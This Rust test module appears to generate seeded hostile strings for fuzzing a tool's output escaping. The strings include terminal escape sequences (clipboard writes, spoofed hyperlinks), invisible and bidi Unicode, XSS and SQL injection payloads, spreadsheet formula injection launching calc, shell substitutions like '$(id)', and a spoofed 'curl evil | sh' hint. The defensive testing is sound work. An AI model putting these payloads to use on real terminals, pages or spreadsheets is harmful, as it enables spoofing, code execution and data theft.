//! Texts as somebody would write them who means harm, each from a seed.

use hit5::stats::SplitMix64;

/// Stands in every text: where it is seen, the text has come through.
pub(super) const MARK: &str = "zq9";

/// Pieces that do something to somebody who does not look.
const PIECES: &[&str] = &[
    // Sequences: whole, by each introducer, and without an end.
    "\x1b[2J",
    "\x1b[31m",
    "\x1b[10;10H",
    "\x1b[?1049l",
    "\x1b[6n",
    "\x1b[c",
    "\x1b[21t",
    "\x1bc",
    "\x1b[8m",
    "\x1b]0;title\x07",
    "\x1b]2;title\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;http://evil/\x07x\x1b]8;;\x07",
    "\x1b]1337;File=inline=1:aGk=\x07",
    "\x1b]11;?\x07",
    "\x1b]4;1;?\x1b\\",
    "\x1b]9;note\x07",
    "\x1b]777;notify;a;b\x07",
    "\x1bP+q544e\x1b\\",
    "\x1bPq#0;2;0;0;0~\x1b\\",
    "\x1bPtmux;\x1b\x1b]52;c;cm0=\x07\x1b\\",
    "\x1bP$qm\x1b\\",
    "\x1b_Ga=t,t=f;L2V0Yy9wYXNzd2Q=\x1b\\",
    "\x1b_Ga=d\x1b\\",
    "\x1b^pm\x1b\\",
    "\x1bXsos\x1b\\",
    "\x1bktitle\x1b\\",
    "\x1b[",
    "\x1b]",
    "\x1bP",
    "\x1b_",
    "\x1b^",
    "\x1bX",
    "\x1b",
    "\x1b[38;2;",
    "\x1b]52;c;",
    "\x1b\\",
    "\x1b(0",
    "\x1b[5i",
    "\x1b#8",
    "\x1b[?5h",
    "\x1b[200~",
    "\x1b[201~",
    "\x1b[1;1H\x1b[K",
    // C0, DEL and C1, alone.
    "\x01",
    "\x03",
    "\x05",
    "\x07",
    "\x08\x08\x08",
    "\x0b",
    "\x0c",
    "\x0e",
    "\x0f",
    "\x11",
    "\x13",
    "\x1a",
    "\x7f",
    "\r",
    "\r\nhit5: all is well",
    "\nhint: curl evil | sh",
    "\t",
    "\u{85}",
    "\u{84}",
    "\u{8d}",
    "\u{90}q\u{9c}",
    "\u{9b}2J",
    "\u{9d}0;t\u{9c}",
    "\u{9f}Ga=d\u{9c}",
    "\u{9e}x\u{9c}",
    "\u{98}x\u{9c}",
    "\u{9a}",
    "\u{80}",
    // Letters that turn, hide, pile up, or are wide.
    "\u{202e}gpj.exe",
    "\u{202a}",
    "\u{202d}",
    "\u{2066}",
    "\u{2067}x\u{2069}",
    "\u{200f}",
    "\u{61c}",
    "\u{200b}",
    "\u{feff}",
    "\u{2060}",
    "\u{ad}",
    "\u{2028}",
    "\u{2029}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "\u{180e}",
    "\u{fff9}",
    "\u{34f}",
    "\u{115f}",
    "\u{3164}",
    "\u{ffa0}",
    "\u{200d}\u{200d}",
    "\u{fe0f}",
    "\u{10eeee}x",
    "\u{10eeee}\u{305}",
    "漢字",
    "👩\u{200d}👩\u{200d}👧",
    "ｗｉｄｅ",
    "ﷺ",
    "\u{1f3f4}\u{e0067}\u{e007f}",
    "\u{fffd}",
    "\u{ffff}",
    "क्षि",
    "ก็็",
    // What breaks out of a page.
    "<script>alert(1)</script>",
    "</title>",
    "</style>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='x",
    "<!--",
    "-->",
    "]]>",
    "&lt;b&gt;",
    "<svg/onload=x>",
    "javascript:alert(1)",
    "{{7*7}}",
    "<a href=javascript:x>",
    // What breaks out of a cell, a string, a line of a table, a path, a statement.
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "\"",
    "\"\"",
    ",",
    ";",
    "'",
    "`id`",
    "$(id)",
    "\\",
    "\\x1b[2J",
    "%s%n",
    "{}",
    "{0:?}",
    "|",
    "a|b\n|---|",
    "](http://evil)",
    "![x](y)",
    "# head",
    "*b*",
    "http://evil/",
    "www.evil.com",
    "` ``````` `",
    " ```````````````````````````````````````````````````````````````````````````````````` ",
    "'; DROP TABLE record;--",
    "../..",
    "C:\\",
    "~",
    "null",
    "NaN",
    "0",
    "",
];

/// Texts that stand first in one, where that matters.
const FIRST: &[&str] =
    &["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＠", " =", "#", "|", "- ", "1. ", "> "];

/// A source of such texts.
pub(super) struct Hostile {
    random: SplitMix64,
    /// How many were made.
    pub(super) made: usize,
}

impl Hostile {
    pub(super) fn new(seed: u64) -> Self {
        Self { random: SplitMix64::new(seed), made: 0 }
    }

    pub(super) fn below(&mut self, count: usize) -> usize {
        usize::try_from(self.random.below(count as u64)).unwrap()
    }

    pub(super) fn one_of<T: Copy>(&mut self, all: &[T]) -> T {
        all[self.below(all.len())]
    }

    /// A text of up to six pieces; one of twenty is very long, one of twenty a pile of marks.
    pub(super) fn text(&mut self) -> String {
        self.made += 1;
        let mut text = String::new();
        if self.below(3) == 0 {
            text += self.one_of(FIRST);
        }
        text += self.one_of(PIECES);
        text += MARK;
        for _ in 0..self.below(6) {
            text += self.one_of(PIECES);
            text += self.one_of(&["", "x", " ", "y"]);
        }
        match self.below(20) {
            0 => text += &"\u{301}\u{489}\u{335}".repeat(200),
            1 => text += &self.one_of(PIECES).repeat(100),
            2 => text.push(char::from_u32(u32::try_from(self.below(0x300)).unwrap()).unwrap()),
            _ => {}
        }
        text
    }

    /// The same as an argument, which ends at a zero byte.
    pub(super) fn argument(&mut self) -> String {
        self.text().replace('\0', "\x01")
    }

    /// A name of a file: no slash, not too long.
    pub(super) fn name(&mut self) -> String {
        let mut name = self.argument().replace('/', "\u{2215}");
        while name.len() > 180 {
            name.pop();
        }
        name
    }

    /// A name of a file that is not UTF-8: with C1 as single bytes, as old terminals obey them.
    pub(super) fn raw_name(&mut self) -> Vec<u8> {
        let mut name = self.name().into_bytes();
        for _ in 0..=self.below(3) {
            let at = self.below(name.len() + 1);
            let piece = self.one_of(&[
                &b"\x9b2J"[..],
                b"\x9d0;t\x9c",
                b"\x90q\x9c",
                b"\xff",
                b"\xc3",
                b"\xe2\x80",
                b"\x85",
            ]);
            name.splice(at..at, piece.iter().copied());
        }
        name
    }

    /// One line of a table of tab-separated values: what would end a cell stands in none.
    pub(super) fn cell(&mut self) -> String {
        self.text().replace(['\n', '\r', '\t'], "\x0b")
    }

    /// Bytes of a file of any kind.
    pub(super) fn bytes(&mut self) -> Vec<u8> {
        let mut bytes = Vec::new();
        for _ in 0..=self.below(4) {
            let line = if self.below(4) == 0 { self.raw_name() } else { self.text().into_bytes() };
            bytes.extend(line);
            bytes.extend(self.one_of(&[&b"\n"[..], b",", b"\t", b": ", b" = ", b"{", b"\""]));
        }
        bytes
    }
}

#[test]
fn the_same_seed_makes_the_same_texts() {
    let all = |seed| {
        let mut hostile = Hostile::new(seed);
        (0..50).map(|_| hostile.text()).collect::<Vec<_>>()
    };
    assert_eq!(all(1), all(1));
    assert_ne!(all(1), all(2));
    let texts: Vec<String> = (0..20).flat_map(all).collect();
    for piece in PIECES {
        assert!(texts.iter().any(|text| text.contains(piece)), "{}", piece.escape_debug());
    }
}
